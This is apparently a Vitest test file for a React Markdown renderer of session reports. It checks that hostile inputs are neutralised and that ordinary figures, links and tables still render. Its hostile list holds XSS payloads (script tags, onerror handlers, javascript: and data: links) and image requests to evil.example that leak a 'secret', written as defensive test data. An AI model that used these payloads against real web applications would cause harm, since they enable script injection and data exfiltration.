import { act } from "react";
import { createRoot } from "react-dom/client";
import { expect, test } from "vitest";
import { Markdown } from "./markdown";

Object.assign(globalThis, { IS_REACT_ACT_ENVIRONMENT: true });

/** Renders `text` as the report of a session and answers the page's HTML. */
function render(text: string): string {
  const page = document.createElement("div");
  const root = createRoot(page);
  act(() => root.render(<Markdown text={text} base="/files/sessions/s1" path="eda/report.md" />));
  const html = page.innerHTML;
  act(() => root.unmount());
  return html;
}

const hostile: [string, string][] = [
  ["a script", "<script>alert(1)</script>"],
  ["an event handler", "<img src=x onerror=alert(1)>"],
  ["a raw image", '<img src="https://evil.example/?d=secret">'],
  ["a style", "<style>body{background:url(https://evil.example)}</style>"],
  ["a frame", '<iframe src="https://evil.example"></iframe>'],
  ["an absolute image", "![x](https://evil.example/?d=secret)"],
  ["an image without scheme", "![x](//evil.example/?d=secret)"],
  ["an image with backslashes", "![x](\\\\\\\\evil.example\\\\a.png)"],
  ["an image as data", "![x](data:image/svg+xml;base64,PHN2Zz4=)"],
  ["an image out of the session", "![x](../../other/secret.png)"],
  ["a referenced image", "![x][r]\n\n[r]: https://evil.example/?d=secret"],
  ["a script address", "[x](javascript:alert(1))"],
  ["a disguised script address", "[x](java&#x0A;script:alert(1))"],
  ["a data link", "[x](data:text/html,<script>alert(1)</script>)"],
];

test.each(hostile)("%s does nothing", (_name, text) => {
  const html = render(text);
  expect(html).not.toMatch(/<(script|img|iframe|style|svg|form|object)\b/i);
  expect(html).not.toMatch(/(javascript|data):/i);
  expect(html).not.toMatch(/(src|style|on\w+)=/i);
});

test.each<[string, string, RegExp]>([
  ["a figure", "![Age](figures/age.png)", /<img alt="Age"[^>]* src="\/files\/sessions\/s1\/eda\/figures\/age\.png"/],
  ["a file", "[data](data/x.csv)", /<a href="\/files\/sessions\/s1\/eda\/data\/x\.csv"/],
  [
    "a site",
    "[docs](https://example.org)",
    /href="https:\/\/example\.org" target="_blank" rel="noopener noreferrer nofollow"/,
  ],
  ["a table", "|a|b|\n|-|-|\n|1|2|", /<th>a<\/th>/],
  ["text in angle brackets", "a &lt;b&gt; c", /a &lt;b&gt; c/],
])("%s is shown", (_name, text, expected) => {
  expect(render(text)).toMatch(expected);
});
